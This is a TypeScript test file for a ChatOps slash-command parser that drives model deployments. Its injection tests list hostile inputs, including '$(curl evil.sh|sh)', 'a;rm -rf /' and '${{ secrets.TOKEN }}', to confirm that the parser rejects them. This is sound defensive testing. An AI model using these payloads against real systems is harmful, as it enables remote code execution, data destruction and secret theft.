import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { commandLine, formatCommand, parseComment, safe, type GrammarContext } from '../../src/chatops/grammar.js';

const ctx: GrammarContext = { models: ['iris', 'churn'], environments: ['staging', 'production'] };
const parse = (body: string, c: GrammarContext = ctx) => parseComment(body, c);

describe('parseComment: /rollout', () => {
  it('refuses an unknown action or environment, naming it', () => {
    expect(parse('/rollout pase staging')).toMatchObject({ kind: 'error', command: 'rollout', message: expect.stringMatching(/unknown rollout action "pase".*pause/) });
    expect(parse('/rollout abort prod')).toMatchObject({ kind: 'error', command: 'rollout', message: expect.stringMatching(/unknown environment "prod"/) });
    expect(parse('/rollout abort')).toMatchObject({ kind: 'error', command: 'rollout', message: '/rollout needs <env>' });
    expect(parse('/rollout $(id) staging')).toMatchObject({ kind: 'error', command: 'rollout' });
  });
});

describe('parseComment: commands', () => {
  it.each([
    ['/deploy iris@1.2.0 to staging', { name: 'deploy', model: 'iris', version: '1.2.0', env: 'staging', dryRun: false }],
    ['/deploy iris to staging', { name: 'deploy', model: 'iris', env: 'staging', dryRun: false }],
    ['/deploy iris@v2.0.0-rc.1 to production --dry-run', { name: 'deploy', model: 'iris', version: '2.0.0-rc.1', env: 'production', dryRun: true }],
    ['/promote churn to production', { name: 'promote', model: 'churn', env: 'production', dryRun: false }],
    ['/rollback production', { name: 'rollback', env: 'production', dryRun: false }],
    ['/rollback production to 1.0.0', { name: 'rollback', env: 'production', version: '1.0.0', dryRun: false }],
    ['/status', { name: 'status', dryRun: false }],
    ['/status staging --dry-run', { name: 'status', env: 'staging', dryRun: true }],
    ['/lock production incident #42: bad latency', { name: 'lock', env: 'production', reason: 'incident #42: bad latency', dryRun: false }],
    ['/unlock production', { name: 'unlock', env: 'production', dryRun: false }],
    ['/help', { name: 'help', dryRun: false }],
    ['/rollout abort production', { name: 'rollout', action: 'abort', env: 'production', dryRun: false }],
    ['/rollout promote-full staging --dry-run', { name: 'rollout', action: 'promote-full', env: 'staging', dryRun: true }],
    ['/rollout RETRY staging', { name: 'rollout', action: 'retry', env: 'staging', dryRun: false }],
    ['  /DEPLOY   iris   TO   staging  ', { name: 'deploy', model: 'iris', env: 'staging', dryRun: false }],
  ])('%s', (body, expected) => {
    const out = parse(body);
    expect(out).toEqual({ kind: 'command', command: expected, line: body.trim() });
  });

  it('reads only the first non-blank line; later lines are commentary', () => {
    const out = parse('\n\n/promote iris to staging\n/rollback production\nthanks!');
    expect(out.kind === 'command' && out.command).toEqual({ name: 'promote', model: 'iris', env: 'staging', dryRun: false });
  });

  it('honours a configured prefix, and ignores the default one then', () => {
    const dot = { ...ctx, prefix: '.' };
    expect(parse('.status', dot).kind).toBe('command');
    expect(parse('/status', dot)).toEqual({ kind: 'none' });
  });

  it('round-trips through formatCommand', () => {
    for (const body of ['/rollout pause staging', '/deploy iris@1.2.0 to staging --dry-run', '/rollback production to 1.0.0', '/lock staging maintenance window', '/status', '/help']) {
      const out = parse(body);
      if (out.kind !== 'command') throw new Error(body);
      expect(formatCommand(out.command)).toBe(body);
    }
  });
});

describe('parseComment: not a command', () => {
  it.each([
    ['an ordinary comment', 'Looks good to me'],
    ['a quote of a command', '> /deploy iris to production'],
    ['a fenced block', '```\n/deploy iris to production\n```'],
    ['a tilde fence', '~~~\n/deploy iris to production\n~~~'],
    ['an indented code block', '    /deploy iris to production'],
    ['a command on a later line only', 'please run\n/deploy iris to production'],
    ['an unrelated slash word', '/cc @acme/ml-team'],
    ['a path', '/usr/bin/env is wrong'],
    ['an empty body', ''],
    ['blank lines', '\n  \n'],
  ])('%s', (_what, body) => {
    expect(parse(body)).toEqual({ kind: 'none' });
  });

  it('commandLine returns null for quotes and fences', () => {
    expect(commandLine('> x')).toBeNull();
    expect(commandLine('```js')).toBeNull();
    expect(commandLine('\uFEFF/help')).toBe('/help');
  });
});

describe('parseComment: errors with suggestions', () => {
  it.each([
    ['/deplyo iris to staging', /unknown command "\/deplyo": did you mean "\/deploy"/],
    ['/deploy irsi to staging', /unknown model "irsi": did you mean "iris"/],
    ['/deploy iris to prodution', /unknown environment "prodution": did you mean "production"/],
    ['/deploy iris staging', /expected "to", got "staging"/],
    ['/deploy iris to', /needs <env>/],
    ['/deploy', /needs <model>/],
    ['/deploy iris@1.2 to staging', /version "1\.2" is not a semantic version/],
    ['/rollback production 1.0.0', /expected "to"/],
    ['/status staging production', /unexpected "production"/],
    ['/help me', /unexpected "me"/],
    ['/deploy iris to staging --dryrun', /unknown option "--dryrun": did you mean "--dry-run"/],
    ['/deploy Iris to staging', /model "Iris" is not a valid name/],
  ])('%s', (body, message) => {
    const out = parse(body);
    expect(out.kind).toBe('error');
    if (out.kind === 'error') expect(out.message).toMatch(message);
  });

  it('gives the usage as a hint', () => {
    const out = parse('/promote iris');
    expect(out).toMatchObject({ kind: 'error', command: 'promote', hint: 'usage: /promote <model> to <env> [--dry-run]' });
  });

  it('lists configured names when nothing is close', () => {
    const out = parse('/unlock qqqqqqqqqq');
    expect(out).toMatchObject({ kind: 'error', hint: 'configured environments: staging, production' });
  });

  it('refuses over-long lines', () => {
    expect(parse(`/lock staging ${'a '.repeat(300)}`)).toMatchObject({ kind: 'error', message: expect.stringMatching(/at most 500/) });
  });
});

describe('parseComment: injection', () => {
  const payloads = ['${{ secrets.TOKEN }}', '${{github.token}}', '$(curl evil.sh|sh)', '`id`', 'a;rm -rf /', 'a&&b', 'a|b', "a'b", 'a"b', 'x>y', '$HOME'];
  const positions = (p: string) => [
    `/deploy ${p} to staging`,
    `/deploy iris@${p} to staging`,
    `/deploy iris to ${p}`,
    `/promote ${p} to staging`,
    `/promote iris to ${p}`,
    `/rollback ${p}`,
    `/rollback staging to ${p}`,
    `/status ${p}`,
    `/lock ${p}`,
    `/lock staging ${p}`,
    `/unlock ${p}`,
  ];
  it('refuses shell metacharacters and ${{ }} in every argument, with a clear message', () => {
    for (const p of payloads) {
      for (const body of positions(p)) {
        const out = parse(body);
        expect({ body, kind: out.kind }).toEqual({ body, kind: 'error' });
        if (out.kind === 'error') expect(out.message.length).toBeGreaterThan(10);
      }
    }
  });

  it('names the expression as never accepted', () => {
    const out = parse('/deploy iris@1.0.0 to ${{secrets.X}}');
    expect(out.kind === 'error' && out.message).toMatch(/workflow expressions are never accepted/);
  });

  it('safe() neutralises backticks, HTML and mentions in echoes', () => {
    expect(safe('`x`<b>@admin')).toBe("'x'‹b›@\u200badmin");
    expect(safe('${{ secrets.X }}$(id)')).toBe('＄{{ secrets.X }}＄(id)');
    expect(safe('a'.repeat(100))).toHaveLength(60);
  });
});

describe('parseComment: fuzz', () => {
  it('never throws, and any accepted command has only strict names', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (tail) => {
        for (const body of [tail, `/deploy ${tail}`, `/lock staging ${tail}`, `/rollback ${tail}`]) {
          const out = parse(body);
          if (out.kind === 'command') {
            const c = out.command;
            for (const v of [c.model, c.env]) if (v !== undefined) expect(v).toMatch(/^[a-z0-9][a-z0-9._-]*$/);
            if (c.version !== undefined) expect(c.version).toMatch(/^[0-9A-Za-z.+-]+$/);
            if (c.reason !== undefined) expect(c.reason).not.toMatch(/[$`{}|;&<>"'\\]/);
          }
        }
      }),
      { numRuns: 400 },
    );
  });

  it('mutations of valid commands parse or fail cleanly', () => {
    const valid = '/deploy iris@1.2.0 to staging --dry-run';
    fc.assert(
      fc.property(fc.nat(valid.length), fc.string({ minLength: 1, maxLength: 3 }), (at, insert) => {
        const out = parse(valid.slice(0, at) + insert + valid.slice(at));
        expect(['command', 'error', 'none']).toContain(out.kind);
      }),
      { numRuns: 400 },
    );
  });
});
